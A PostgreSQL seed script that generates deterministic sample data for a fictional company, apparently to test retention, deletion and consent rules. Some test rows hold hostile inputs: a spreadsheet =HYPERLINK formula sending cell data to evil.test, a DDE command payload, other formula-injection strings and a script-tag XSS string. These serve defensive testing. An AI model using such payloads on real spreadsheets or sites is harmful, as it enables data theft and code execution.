-- Fills the sample company. Everything follows from three settings, so that the same settings give the same rows on every machine:
--   sample.now       the instant that all ages are counted back from (default 2026-11-20T10:00:00Z)
--   sample.accounts  how many accounts (default 2000); telemetry has a hundred events for each
--   sample.seed      another text gives other people (default cowork)
-- The named people come first, with accounts 1 to 99, and never depend on the seed: people.yaml tells who they are.
-- Run it as one batch after schema.sql, for example: select set_config('sample.accounts', '500', false); \i generate.sql

set local timezone = 'UTC';
set local jit = off;

create temp table setting on commit drop as
select
  coalesce(nullif(current_setting('sample.now', true), ''), '2026-11-20T10:00:00Z')::timestamptz as now,
  coalesce(nullif(current_setting('sample.seed', true), ''), 'cowork') as seed,
  coalesce(nullif(current_setting('sample.accounts', true), ''), '2000')::int as accounts;

-- An instant so long ago, counted on the company's own calendar as its retention rules count.
create or replace function pg_temp.ago(back interval) returns timestamptz language sql stable as
$$ select ((now at time zone 'Europe/Amsterdam') - back) at time zone 'Europe/Amsterdam' from setting $$;

-- A number from 0 to below 2^28 out of a part (0 to 3) of an MD5 text.
create or replace function pg_temp.part(hash text, which int) returns int language sql immutable as
$$ select ('x' || substr(hash, 1 + 7 * which, 7))::bit(28)::int $$;

do $$
declare
  month timestamp;
begin
  for month in
    select generate_series(this - interval '25 months', this + interval '1 month', interval '1 month')
    from setting, lateral (select date_trunc('month', now at time zone 'Europe/Amsterdam') as this) m
  loop
    execute format('create table telemetry_events_%s partition of telemetry_events for values from (%L) to (%L)',
      to_char(month, 'YYYY_MM'), month::date, (month + interval '1 month')::date);
  end loop;
end $$;

-- ---------------------------------------------------------------------------------------------------------------- organisations

insert into organisations (id, name, plan, country, privacy_contact, conversation_retention_days, created_at) values
  (1, 'Northwind Instruments B.V.', 'team', 'NL', 'privacy@northwind.example.org', 30, pg_temp.ago('3 years')),
  (2, 'Helder Advocaten N.V.', 'enterprise', 'NL', 'privacy@helder.example.org', 0, pg_temp.ago('2 years')),
  (3, 'Stadsarchief Oostwijk', 'enterprise', 'NL', 'fg@oostwijk.example.org', 365, pg_temp.ago('4 years')),
  (4, 'Bäckerei Müller GmbH', 'team', 'DE', 'datenschutz@mueller.example.org', null, pg_temp.ago('1 year'));

-- ------------------------------------------------------------------------------------------------------------- the named people
-- `full_rows`: has rows in every table. The others have what their story needs (see people.yaml).

create temp table person on commit drop as
select * from (values
  (1, 'ada@example.com', 'Ada van Dam', 'pro', null::bigint, 'NL', 'nl', 1984, false, true),
  (2, 'noor@example.com', 'Noor el Idrissi', 'max', null, 'NL', 'nl', 1990, false, true),
  (3, 'pieter@example.com', 'Pieter Postma', 'pro', null, 'NL', 'nl', 1979, false, true),
  (4, 'chiara@example.com', 'Chiara Conti', 'max', null, 'IT', 'it', 1993, false, true),
  (5, 'bram@example.com', 'Bram de Boer', 'free', null, 'NL', 'nl', 1999, true, true),
  (6, 'sean@example.com', 'Seán Ó Briain', 'pro', null, 'IE', 'en', 1988, false, true),
  (7, 'maria@example.com', 'María José García', 'pro', null, 'ES', 'es', 1975, false, true),
  (8, 'carla@example.com', 'Carla Reyes', 'pro', null, 'US', 'en', 1991, false, true),
  (10, 'Sam.Okafor@example.com', 'Samuel Okafor', 'pro', null, 'GB', 'en', 1986, false, false),
  (11, 'sam.okafor@example.com', 'Samantha Okafor', 'free', null, 'GB', 'en', 1989, false, false),
  (12, 'familie.jansen@example.com', 'Joris Jansen', 'pro', null, 'NL', 'nl', 1970, false, false),
  (13, 'familie.jansen@example.com', 'Marieke Jansen', 'free', null, 'NL', 'nl', 1972, false, false),
  (14, 'day89@example.com', 'Eline Negenentachtig', 'pro', null, 'NL', 'nl', 1980, false, false),
  (15, 'day90@example.com', 'Niek Negentig', 'pro', null, 'NL', 'nl', 1981, false, false),
  (16, 'day91@example.com', 'Eva Eenennegentig', 'pro', null, 'NL', 'nl', 1982, false, false),
  (17, 'closed91@example.com', 'Gesloten Gerrits', 'free', null, 'NL', 'nl', 1968, false, false),
  (18, 'closed.then.asked@example.com', 'Tineke Tweemaal', 'free', null, 'NL', 'nl', 1977, false, false),
  (19, 'willem@example.com', 'Willem Winkel', 'pro', null, 'NL', 'nl', 1960, false, false),
  (20, 'lotte.devries@northwind.example.org', 'Lotte de Vries', 'team', 1, 'NL', 'nl', 1992, false, false),
  (21, 'lotte.devries@example.com', 'Lotte de Vries', 'pro', null, 'NL', 'nl', 1992, false, false),
  (22, 'kenji@helder.example.org', 'Kenji Mori', 'enterprise', 2, 'NL', 'en', 1987, false, false),
  (23, 'fatma@oostwijk.example.org', 'Fatma Yılmaz', 'enterprise', 3, 'NL', 'nl', 1983, false, false),
  (24, 'hans@mueller.example.org', 'Hans Müller', 'team', 4, 'DE', 'de', 1965, false, false),
  (25, 'finn@example.com', 'Finn', 'free', null, 'NL', 'nl', 0, false, false),
  (26, 'xiaolong@example.com', '李小龍', 'free', null, 'NL', 'zh', 1994, false, false),
  (27, 'olena@example.com', 'Олена Шевченко', 'pro', null, 'NL', 'uk', 1985, false, false),
  (28, 'yusuf@example.com', 'يوسف حداد', 'free', null, 'DE', 'ar', 1996, false, false),
  (29, 'zoe@example.com', E'Zoe\u0308 A\u030angstro\u0308m 🌷', 'free', null, 'SE', 'sv', 1998, false, false),
  (30, 'jose@xn--bcher-kva.example', 'José Bücher', 'free', null, 'DE', 'de', 1976, false, false),
  (31, 'formula@example.com', '=HYPERLINK("https://evil.test/?x="&A1,"Click")', 'free', null, 'NL', 'nl', 1990, false, false),
  (32, 'mallory@example.com', '<script>alert(1)</script> "Mallory", O''Hara', 'free', null, 'NL', 'en', 1990, false, false),
  (33, 'o''brien+cowork@example.com', 'Síle O''Brien', 'free', null, 'IE', 'en', 1971, false, false),
  (34, 'empty@example.com', 'Lege Leo', 'free', null, 'NL', 'nl', null, false, false),
  (35, 'restricted@example.com', 'Rik Beperkt', 'pro', null, 'NL', 'nl', 1973, false, false),
  (36, 'openmoney@example.com', 'Olga Openstaand', 'pro', null, 'NL', 'nl', 1974, false, false),
  (37, 'tess@example.com', 'Tess Telemetrie', 'free', null, 'NL', 'nl', 1991, false, false),
  (38, 'cas@example.com', 'Cas Crash', 'free', null, 'NL', 'nl', 1992, false, false),
  (39, 'stef@example.com', 'Stef Steun', 'free', null, 'NL', 'nl', 1993, false, false),
  (40, 'coen@example.com', 'Coen Converseert', 'pro', null, 'NL', 'nl', 1994, false, false),
  (41, 'daan@example.com', 'Daan Dertig', 'free', null, 'NL', 'nl', 1995, true, false),
  (42, 'vera@example.com', 'Vera Veilig', 'free', null, 'NL', 'nl', 1996, false, false),
  (43, 'greet@example.com', 'Greet Gesprek', 'pro', null, 'BE', 'nl', 1969, false, false),
  (44, 'eva.device@example.com', 'Eva Leent', 'free', null, 'NL', 'nl', 1990, false, false),
  (45, 'milan.device@example.com', 'Milan Meegebruikt', 'free', null, 'NL', 'nl', 1991, false, false),
  (46, 'marit@example.com', 'Marit Meldt-af', 'free', null, 'NL', 'nl', 1988, false, false),
  (47, 'gina@example.com', 'Gina Koppelt', 'max', null, 'NL', 'nl', 1987, false, false)
) as p (id, email, display_name, plan, organisation_id, country, locale, birth_year, training_opt_out, full_rows);

insert into accounts (id, email, display_name, plan, organisation_id, country, locale, birth_year, password_hash, training_opt_out,
  processing_restricted, created_at, last_sign_in_at, deletion_requested_at, closed_at)
select
  p.id, p.email, p.display_name, p.plan::plan, p.organisation_id, p.country, p.locale,
  case p.birth_year when 0 then extract(year from s.now)::int - 10 else p.birth_year end,
  '$argon2id$v=19$m=65536,t=3,p=4$' || md5('password' || p.id),
  p.training_opt_out, p.id = 35, pg_temp.ago('8 years' - p.id * interval '5 days'), pg_temp.ago(p.id * interval '7 hours'),
  case p.id when 14 then pg_temp.ago('89 days') when 15 then pg_temp.ago('90 days') when 16 then pg_temp.ago('91 days') when 18 then pg_temp.ago('10 days') end,
  case p.id when 17 then pg_temp.ago('91 days') when 18 then pg_temp.ago('100 days') end
from person p, setting s;

-- ----------------------------------------------------------------------------------------------------------- everybody else
-- Accounts from 101 on. A tenth belong to organisations 1 and 3; about one in fifteen has closed or asked for deletion.

create temp table crowd on commit drop as
select
  100 + n as id, n, h,
  pg_temp.part(h, 0) as a, pg_temp.part(h, 1) as b, pg_temp.part(h, 2) as c, pg_temp.part(h, 3) as d
from setting s, generate_series(1, greatest(0, s.accounts - (select count(*)::int from person))) n, lateral (select md5(s.seed || ':account:' || n) as h offset 0) x;

insert into accounts (id, email, display_name, plan, organisation_id, country, locale, birth_year, password_hash, training_opt_out, telemetry_enabled,
  created_at, last_sign_in_at, deletion_requested_at, closed_at)
select
  c.id,
  lower(f.first) || '.' || replace(lower(f.last), ' ', '') || '.' || c.n || case c.a % 10 when 0 then '@northwind.example.org' when 1 then '@oostwijk.example.org' else '@example.com' end,
  f.first || ' ' || f.last,
  (case c.a % 10 when 0 then 'team' when 1 then 'enterprise' when 2 then 'max' when 3 then 'pro' when 4 then 'pro' when 5 then 'pro' else 'free' end)::plan,
  case c.a % 10 when 0 then 1 when 1 then 3 end,
  (array['NL', 'NL', 'NL', 'DE', 'IE', 'FR', 'US', 'GB'])[1 + c.b % 8],
  (array['nl', 'nl', 'en', 'de', 'en', 'fr', 'en', 'en'])[1 + c.b % 8],
  1950 + c.c % 55,
  '$argon2id$v=19$m=65536,t=3,p=4$' || md5('password' || c.h),
  c.d % 7 = 0, c.d % 5 <> 0,
  t.created_at,
  t.created_at + (s.now - t.created_at) * (c.b % 1000) / 1000,
  case when c.d % 15 = 0 and c.d % 2 = 0 then s.now - interval '1 day' * (c.a % 120) end,
  case when c.d % 15 = 0 and c.d % 2 = 1 then s.now - interval '1 day' * (c.a % 120) end
from crowd c, setting s,
  lateral (select pg_temp.ago(interval '1 hour' * (3000 + c.c % 66000)) as created_at) t,
  lateral (select
    (array['Anna', 'Bas', 'Cato', 'Daan', 'Eva', 'Femke', 'Gijs', 'Hanna', 'Ivo', 'Julia', 'Kees', 'Lieke', 'Mees', 'Nina', 'Omar', 'Puck'])[1 + c.a % 16] as first,
    (array['de Jong', 'Bakker', 'Visser', 'Smit', 'Meijer', 'Mulder', 'Bos', 'Vos', 'Peters', 'Hendriks', 'Dekker', 'Brouwer', 'Dijkstra'])[1 + c.b % 13] as last) f;

-- ------------------------------------------------------------------------------------------------------ subscriptions, invoices

insert into subscriptions (id, account_id, plan, status, stripe_customer_id, stripe_subscription_id, started_at, current_period_ends_at, cancelled_at)
select
  row_number() over (order by a.id), a.id, a.plan,
  case when x.ended then 'cancelled' when a.id = 36 then 'past_due' else 'active' end,
  'cus_' || substr(md5('customer' || a.id), 1, 14), 'sub_' || substr(md5('subscription' || a.id), 1, 14),
  a.created_at, s.now + interval '1 day' * (a.id % 28 + 1), case when x.ended then s.now - interval '1 day' * (a.id % 40 + 30) end
from accounts a, setting s, lateral (select a.deletion_requested_at is not null or a.closed_at is not null or a.id in (1, 8) as ended) x
where a.plan in ('pro', 'max') order by a.id;

-- One invoice a year, at most nine years back, so that some are past the end of their seventh financial year.
insert into invoices (id, number, account_id, billing_name, billing_email, billing_address, country, vat_number, description, currency, net_amount,
  vat_amount, status, issued_at, paid_at, stripe_invoice_id, internal_note)
select
  row_number() over (order by a.id, y), 'CW-' || to_char(a.id, 'FM000000') || '-' || y, a.id, a.display_name, a.email,
  case a.id when 1 then 'Prinsengracht 12, 1015 DV Amsterdam' else 'Hoofdstraat ' || (a.id % 300 + 1) || ', ' || (1000 + a.id % 9000) || ' AB Oostwijk' end,
  a.country, case when a.id % 9 = 0 then 'NL' || lpad(a.id::text, 9, '0') || 'B01' end,
  'Cowork ' || a.plan || ', one year', 'EUR', 200 + a.id % 40, round((200 + a.id % 40) * 0.21, 2),
  case when a.id = 36 and y = 0 then 'open' else 'paid' end,
  t.issued_at, case when a.id = 36 and y = 0 then null else t.issued_at + interval '2 days' end,
  'in_' || substr(md5('invoice' || a.id || ':' || y), 1, 14), case when a.id % 11 = 0 then 'Called about the amount; friendly.' end
from accounts a, generate_series(0, 8) y, lateral (select pg_temp.ago(interval '1 day' * (20 + a.id % 300 + 365 * y)) as issued_at) t
where a.plan in ('pro', 'max') and a.id <> 19
  and (case when a.id < 100 then y < 6 else t.issued_at >= a.created_at or a.id % 25 = 0 end)
order by a.id, y;

-- Willem: the last minutes of one financial year and the first of the next, in Amsterdam, on both sides of the end of the seventh year;
-- CW-000019-UTC is issued on 31 December in UTC, which is already the new year in Amsterdam.
insert into invoices (id, number, account_id, billing_name, billing_email, billing_address, country, description, currency, net_amount, vat_amount,
  status, issued_at, paid_at, stripe_invoice_id)
select 900000 + i, 'CW-000019-' || w.name, 19, 'Winkel Willem', 'willem@example.com', 'Markt 1, 2611 GS Delft', 'NL', 'Cowork pro, one year', 'EUR', 200, 42,
  'paid', w.at, w.at + interval '1 day', 'in_willem' || i
from setting s, lateral (select extract(year from s.now at time zone 'Europe/Amsterdam')::int as year) y,
  lateral (values
    (1, 'OLD', make_timestamptz(y.year - 8, 6, 1, 12, 0, 0, 'Europe/Amsterdam')),
    (2, 'LAST', make_timestamptz(y.year - 8, 12, 31, 23, 59, 59, 'Europe/Amsterdam')),
    (3, 'UTC', make_timestamptz(y.year - 8, 12, 31, 23, 30, 0, 'UTC')),
    (4, 'FIRST', make_timestamptz(y.year - 7, 1, 1, 0, 0, 0, 'Europe/Amsterdam')),
    (5, 'NEW', make_timestamptz(y.year - 1, 3, 1, 12, 0, 0, 'Europe/Amsterdam'))
  ) w (i, name, at);

-- ------------------------------------------------------------------------------------------------------------ devices, telemetry

insert into devices (id, account_id, name, os, os_version, architecture, display, memory_gb, disk_gb, app_version, first_seen_at, last_seen_at)
select
  md5('device:' || a.id || ':' || k)::uuid, a.id, case k when 1 then 'laptop' else 'desktop' end,
  (array['macos', 'macos', 'windows', 'linux'])[1 + (a.id + k) % 4], (array['15.1', '15.0', '11', '6.9'])[1 + (a.id + k) % 4],
  case (a.id + k) % 3 when 0 then 'x86_64' else 'arm64' end, (array['1512x982@2', '2560x1440', '1920x1080'])[1 + (a.id + k) % 3],
  (array[8, 16, 32])[1 + (a.id + k) % 3], (array[256, 512, 1024])[1 + (a.id + k) % 3], '2.' || (a.id % 5) || '.0',
  a.created_at, pg_temp.ago(interval '1 hour' * (a.id % 900))
from accounts a cross join generate_series(1, 2) k
where a.id <> 34 and a.id <> 45 and (k = 1 or a.id in (select id from person where full_rows) or a.id % 3 = 0);

insert into telemetry_events (id, occurred_on, occurred_at, account_id, device_id, session_id, app_version, os, feature, duration_ms, properties)
select 1000 + n, (s.now - make_interval(secs => age)) at time zone 'Europe/Amsterdam', s.now - make_interval(secs => age), account_id, md5('device:' || account_id || ':1')::uuid, h::uuid,
  '2.' || (4 - age / 12960000) || '.0',
  (array['macos', 'macos', 'windows', 'linux'])[1 + (account_id + 1) % 4],
  (array['chat', 'chat', 'chat', 'files', 'files', 'browser', 'code', 'voice'])[1 + c % 8],
  20 + c % 4000, jsonb_build_object('cold_start', d % 9 = 0, 'tokens', d % 5000)
from setting s, lateral (select s.accounts * 100 as events, greatest(1, (select count(*)::int from crowd)) as crowd_size) z,
  lateral (select n, md5(s.seed || ':telemetry:' || n) as h from generate_series(1, z.events) n offset 0) x,
  lateral (select 101 + pg_temp.part(h, 0) % crowd_size as account_id, ((events - n) * 64800000::float8 / events)::int as age,
    pg_temp.part(h, 1) as c, pg_temp.part(h, 2) as d offset 0) e
where exists (select 1 from crowd);

-- The named people with rows everywhere: two events a month for two years on each of their two devices.
insert into telemetry_events (id, occurred_on, occurred_at, account_id, device_id, session_id, app_version, os, feature, duration_ms, properties)
select
  row_number() over (order by d.account_id, d.id, m), t.at at time zone 'Europe/Amsterdam', t.at, d.account_id, d.id,
  md5('session:' || d.id || ':' || m)::uuid, '2.' || (4 - m / 10) || '.0', d.os, (array['chat', 'files', 'browser', 'code'])[1 + m % 4], 100 + m * 7,
  jsonb_build_object('cold_start', m % 5 = 0, 'tokens', m * 100)
from devices d join person p on p.id = d.account_id and p.full_rows, generate_series(0, 46) m,
  lateral (select pg_temp.ago(interval '11 days 3 hours' + interval '15 days' * m) as at) t;

-- Tess: a day on each side of 12 and of 24 months, and one event of a clock that stood in 2016 (it lands in the default partition).
-- Milan has no device of his own: he signed in on Eva's.
insert into telemetry_events (id, occurred_on, occurred_at, account_id, device_id, session_id, app_version, os, feature, duration_ms)
select 900 + row_number() over (order by t.at, t.account), t.at at time zone 'Europe/Amsterdam', t.at, t.account, md5('device:' || t.device || ':1')::uuid, md5('session:' || t.at)::uuid, '2.1.0', 'macos', 'chat', 50
from (values
  (37, 37, pg_temp.ago('12 months') + interval '1 day'), (37, 37, pg_temp.ago('12 months') - interval '1 day'),
  (37, 37, pg_temp.ago('24 months') + interval '1 day'), (37, 37, pg_temp.ago('24 months') - interval '1 day'),
  (37, 37, '2016-01-01T00:00:00Z'), (37, 37, pg_temp.ago('1 day')),
  (44, 44, pg_temp.ago('30 days')), (44, 44, pg_temp.ago('20 days')), (45, 44, pg_temp.ago('19 days')), (45, 44, pg_temp.ago('18 days'))
) t (account, device, at);

insert into crash_reports (id, device_id, app_version, os, signal, stack, breadcrumbs, received_at)
select row_number() over (order by device_id, received_at), device_id, '2.3.0', os, 'SIGSEGV',
  'at /Users/' || split_part(name, ' ', 1) || '/Library/Cowork/main.node+0x' || substr(md5(device_id || received_at::text), 1, 6),
  '[{"event": "window.open"}, {"event": "file.read"}]', received_at
from (
  select d.id, d.os, p.display_name, pg_temp.ago(interval '1 month' + interval '2 months' * k) from devices d join person p on p.id = d.account_id and p.full_rows, generate_series(0, 2) k
  union all
  select md5('device:38:1')::uuid, 'macos', 'Cas', pg_temp.ago('6 months') + interval '1 day'
  union all
  select md5('device:38:1')::uuid, 'macos', 'Cas', pg_temp.ago('6 months') - interval '1 day'
  union all
  select md5('device:' || c.id || ':1')::uuid, 'macos', 'user', s.now - interval '1 hour' * (c.b % 4800) from crowd c, setting s where c.a % 3 = 0
) r (device_id, os, name, received_at);

-- --------------------------------------------------------------------------------------------------------- support, feedback

insert into support_tickets (id, account_id, requester_email, requester_name, subject, channel, desk_number, status, created_at, last_interaction_at)
select row_number() over (order by t.key), t.account_id, t.email, t.name, t.subject, t.channel, case when t.channel = 'phone' then 'T-2041' end, t.status,
  t.last - interval '3 days', t.last
from (
  select 'a' || to_char(p.id * 10 + k, 'FM00000'), p.id, p.email, p.display_name, (array['Invoice has the old address', 'App does not start'])[1 + k % 2],
    (array['mail', 'app'])[1 + k % 2], 'solved', pg_temp.ago(interval '2 months' + interval '9 months' * k)
  from person p, generate_series(0, 1) k where p.full_rows
  union all
  select * from (values
    ('b1', 39, 'stef@example.com', 'Stef Steun', 'A day younger than three years', 'mail', 'solved', pg_temp.ago('3 years') + interval '1 day'),
    ('b2', 39, 'stef@example.com', 'Stef Steun', 'A day older than three years', 'mail', 'solved', pg_temp.ago('3 years') - interval '1 day'),
    ('b3', 43, 'greet@example.com', 'Greet Gesprek', 'Shared workspace with Pieter', 'mail', 'waiting', pg_temp.ago('40 days')),
    ('b4', null, 'guest@example.com', 'Gast zonder Account', 'Question before buying', 'web', 'solved', pg_temp.ago('200 days')),
    ('b5', 31, 'formula@example.com', '=1+1', '+31 20 123 4567 called', 'mail', 'solved', pg_temp.ago('100 days')),
    -- The last of all, so that nobody else's number depends on it.
    ('d1', null, 'belle@example.com', 'Belle Beller', 'Asked by telephone how to cancel', 'phone', 'solved', pg_temp.ago('30 days'))
  ) named
  union all
  select 'c' || to_char(c.n, 'FM0000000'), c.id, a.email, a.display_name, (array['Cannot sign in', 'Change of plan', 'Connector fails'])[1 + c.c % 3],
    (array['mail', 'app', 'web'])[1 + c.d % 3], 'solved', s.now - interval '1 hour' * (c.b % 27000)
  from crowd c join accounts a using (id), setting s where c.a % 4 = 0
) t (key, account_id, email, name, subject, channel, status, last), setting s
order by t.key;

-- Three messages in every thread: the requester, the desk, the requester. Pieter was copied in by Greet and answered in her thread.
insert into support_messages (id, ticket_id, sender_kind, sender_account_id, sender_email, recipient_email, body, sent_at)
select t.id * 10 + k, t.id, case k when 1 then 'desk' else 'customer' end, case when k <> 1 then t.account_id end,
  case k when 1 then 'support@example.org' else t.requester_email end, case k when 1 then t.requester_email else 'support@example.org' end,
  case k when 0 then t.subject || '. Can you help? ' || t.requester_name when 1 then 'Dear ' || t.requester_name || ', we are looking into it.' else 'Thanks, that works.' end,
  t.created_at + interval '1 day' * (k + 1)
from support_tickets t, generate_series(0, 2) k;

insert into support_messages (id, ticket_id, sender_kind, sender_account_id, sender_email, recipient_email, body, sent_at)
select t.id * 10 + 5, t.id, 'other', 3, 'pieter@example.com', null, 'I saw the same error as Greet on my own laptop. Pieter', t.created_at + interval '36 hours'
from support_tickets t where t.requester_email = 'greet@example.com';

insert into feedback (id, account_id, email, rating, message, page, created_at, last_interaction_at)
select row_number() over (order by f.key), f.account_id, f.email, f.rating, f.message, '/app', f.at, f.at
from (
  select 'a' || to_char(p.id, 'FM00000'), p.id, p.email, 4, 'Works well, but the window forgets its size.', pg_temp.ago('5 months') from person p where p.full_rows
  union all
  select * from (values
    ('b1', 31, 'formula@example.com', 5, '=cmd|'' /C calc''!A1', pg_temp.ago('50 days')),
    ('b2', 31, 'formula@example.com', 5, '@SUM(1+1)', pg_temp.ago('51 days')),
    ('b3', 31, 'formula@example.com', 5, '-2+3', pg_temp.ago('52 days')),
    ('b4', 31, 'formula@example.com', 5, E'\t=1, "quoted"\nsecond line', pg_temp.ago('53 days')),
    ('b5', null, 'guest@example.com', 3, 'No account yet.', pg_temp.ago('54 days')),
    ('b6', 39, 'stef@example.com', 2, 'A day older than three years', pg_temp.ago('3 years') - interval '1 day'),
    ('b7', 39, 'stef@example.com', 2, 'A day younger than three years', pg_temp.ago('3 years') + interval '1 day')
  ) named
  union all
  select 'c' || to_char(c.n, 'FM0000000'), c.id, a.email, 1 + c.b % 5, 'Rated in the app', s.now - interval '1 hour' * (c.c % 27000)
  from crowd c join accounts a using (id), setting s where c.a % 6 = 0
) f (key, account_id, email, rating, message, at);

-- ------------------------------------------------------------------------------------------- connectors, conversations, memory
-- Gina: a grant in use, one she revoked that the vendor has not confirmed yet, one revoked and confirmed.

insert into connector_grants (id, account_id, vendor, vendor_account, scopes, token_secret, token_hash, granted_at, last_used_at, revoked_at, vendor_revoked_at)
select row_number() over (order by g.account_id, g.vendor), g.account_id, g.vendor, g.email, array['read', 'search'],
  decode(md5('secret:' || g.account_id || g.vendor), 'hex'), md5('token:' || g.account_id || g.vendor), s.now - interval '400 days', s.now - interval '3 days', g.revoked_at, g.confirmed_at
from (
  select p.id, v.vendor, p.email, null::timestamptz, null::timestamptz from person p, (values ('slack'), ('google-drive')) v (vendor) where p.full_rows
  union all
  select 47, v.vendor, 'gina@example.com', v.revoked_at, v.confirmed_at
  from (values ('github', null, null), ('notion', pg_temp.ago('2 days'), null), ('slack', pg_temp.ago('2 days'), pg_temp.ago('1 day'))) v (vendor, revoked_at, confirmed_at)
  union all
  select a.id, 'google-drive', a.email, null, null from crowd c join accounts a using (id) where c.b % 5 = 0
) g (account_id, vendor, email, revoked_at, confirmed_at), setting s;

insert into conversations (id, account_id, organisation_id, title, model, transcript, created_at, last_activity_at)
select md5('conversation:' || t.key)::uuid, t.account_id, a.organisation_id, t.title, 'assistant-large',
  jsonb_build_array(jsonb_build_object('role', 'user', 'text', t.title || '?'), jsonb_build_object('role', 'assistant', 'text', 'Here is a first draft.')),
  t.last - interval '2 hours', t.last
from (
  -- Bram has opted out of training: his are at most 30 days old.
  select p.id || ':' || k, p.id, (array['Plan a trip to Terschelling', 'Rewrite my letter to the landlord', 'Explain my tax return'])[1 + k],
    pg_temp.ago(case when p.training_opt_out then interval '5 days' * (k + 1) else interval '4 months' * (k + 1) end)
  from person p, generate_series(0, 2) k where p.full_rows
  union all
  select * from (values
    ('coen:young', 40, 'A day younger than five years', pg_temp.ago('5 years') + interval '1 day'),
    ('coen:old', 40, 'A day older than five years', pg_temp.ago('5 years') - interval '1 day'),
    ('daan:young', 41, 'A day younger than thirty days', pg_temp.ago('30 days') + interval '1 day'),
    ('daan:old', 41, 'A day older than thirty days', pg_temp.ago('30 days') - interval '1 day'),
    ('lotte:young', 20, 'Work: a day younger than thirty days', pg_temp.ago('30 days') + interval '1 day'),
    ('lotte:old', 20, 'Work: a day older than thirty days', pg_temp.ago('30 days') - interval '1 day'),
    ('lotte:private', 21, 'Private: birthday present for a colleague', pg_temp.ago('60 days')),
    ('kenji:now', 22, 'Kept for no day at all', pg_temp.ago('1 minute')),
    ('fatma:young', 23, 'A day younger than a year', pg_temp.ago('365 days') + interval '1 day'),
    ('fatma:old', 23, 'A day older than a year', pg_temp.ago('365 days') - interval '1 day'),
    ('hans:old', 24, 'His organisation has set no period', pg_temp.ago('3 years')),
    ('finn:1', 25, 'Help with my school project about frogs', pg_temp.ago('9 days'))
  ) named
  union all
  select 'crowd:' || c.n || ':' || k, c.id, (array['Draft an offer', 'Summarise the minutes', 'Compare two contracts'])[1 + (c.a + k) % 3],
    s.now - interval '1 hour' * ((c.c + 7919 * k) % case when a.training_opt_out or a.organisation_id = 1 then 760 when a.organisation_id = 3 then 9000 else 44500 end)
  from crowd c join accounts a using (id), setting s, generate_series(0, 2) k
) t (key, account_id, title, last) join accounts a on a.id = t.account_id;

-- What the assistant remembers of a conversation, as long as the conversation itself.
insert into memory_entries (id, account_id, organisation_id, conversation_id, topic, content, created_at, last_activity_at)
select row_number() over (order by c.account_id, c.id), c.account_id, c.organisation_id, c.id, 'preference', 'Likes short answers. (' || c.title || ')', c.created_at, c.last_activity_at
from conversations c where c.account_id < 100 or ('x' || substr(c.id::text, 1, 1))::bit(4)::int < 6;

-- ------------------------------------------------------------------------------------------------------- marketing, security
-- Marit withdrew her consent; three subscribers have no account and withdrew 29, 30 and 31 days ago; another never did.

insert into marketing_preferences (account_id, product_news, research_invitations, consent_text, consent_at, withdrawn_at)
select p.id, true, p.id % 2 = 0, 'v3: Yes, tell me about new features.', pg_temp.ago('14 months'), null from person p where p.full_rows
union all
select 46, false, false, 'v2: Yes, tell me about new features.', pg_temp.ago('30 months'), pg_temp.ago('31 days')
union all
select c.id, c.a % 2 = 0, c.b % 3 = 0, 'v3: Yes, tell me about new features.', a.created_at, case when c.c % 12 = 0 then s.now - interval '1 hour' * (c.d % 900) end
from crowd c join accounts a using (id), setting s where c.d % 3 = 0;

insert into newsletter_subscribers (id, email, name, signed_up_on, consent_text, consent_at, consent_ip, unsubscribe_token, withdrawn_at)
select row_number() over (order by n.key), n.email, n.name, n.page, 'n2: Send me the newsletter.', pg_temp.ago('16 months'), n.ip::inet, md5('unsubscribe:' || n.email), n.withdrawn_at
from (
  select 'a' || to_char(p.id, 'FM00000'), p.email, p.display_name, '/pricing', '192.0.2.' || p.id, null::timestamptz from person p where p.full_rows
  union all
  select * from (values
    ('b1', 'nieuwsbrief@example.com', null, '/blog', '192.0.2.201', null::timestamptz),
    ('b2', 'withdrawn29@example.com', 'Wil Negenentwintig', '/blog', '192.0.2.202', pg_temp.ago('29 days')),
    ('b3', 'withdrawn30@example.com', 'Wil Dertig', '/blog', '192.0.2.203', pg_temp.ago('30 days')),
    ('b4', 'withdrawn31@example.com', 'Wil Eenendertig', '/blog', '192.0.2.204', pg_temp.ago('31 days')),
    ('b5', 'marit@example.com', 'Marit', '/blog', '192.0.2.205', pg_temp.ago('31 days'))
  ) named
  union all
  select 'c' || to_char(c.n, 'FM0000000'), case c.b % 2 when 0 then a.email else 'reader.' || c.n || '@example.com' end, null, '/blog', null,
    case when c.c % 10 = 0 then s.now - interval '1 hour' * (c.d % 900) end
  from crowd c join accounts a using (id), setting s where c.b % 3 = 0
) n (key, email, name, page, ip, withdrawn_at);

insert into security_events (id, account_id, email, kind, ip, user_agent, risk_score, detail, occurred_at)
select row_number() over (order by e.at, e.account_id, e.kind), e.account_id, e.email, e.kind, ('198.51.100.' || (1 + e.account_id % 250))::inet, 'Cowork/2.3 (macOS)', (e.account_id % 100) / 1000.0,
  '{"method": "password"}', e.at
from (
  select p.id, p.email, (array['sign_in', 'sign_in', 'sign_in_failed', 'password_changed'])[1 + k % 4], pg_temp.ago(interval '20 days' * (k + 1)) from person p, generate_series(0, 3) k where p.full_rows
  union all
  select * from (values
    (42, 'vera@example.com', 'sign_in', pg_temp.ago('12 months') + interval '1 day'),
    (42, 'vera@example.com', 'sign_in', pg_temp.ago('12 months') - interval '1 day'),
    (42, 'vera@example.com', 'abuse_report', pg_temp.ago('3 months'))
  ) named
  union all
  select c.id, a.email, (array['sign_in', 'sign_in', 'sign_in_failed', 'mfa_enabled'])[1 + (c.a + k) % 4], s.now - interval '1 hour' * ((c.b + 6007 * k) % 8900)
  from crowd c join accounts a using (id), setting s, generate_series(0, 2) k
) e (account_id, email, kind, at), setting s;

-- ------------------------------------------------------------------------------------------------------- the application goes on

do $$
declare
  serial record;
begin
  for serial in
    select table_name from information_schema.columns where table_schema = 'public' and column_name = 'id' and is_identity = 'YES'
  loop
    execute format('select setval(pg_get_serial_sequence(%L, ''id''), (select coalesce(max(id), 0) + 1 from %I), false)', serial.table_name, serial.table_name);
  end loop;
end $$;

-- Without statistics the first large statements would be planned blindly; a small sample is enough here.
set local default_statistics_target = 10;
analyze;
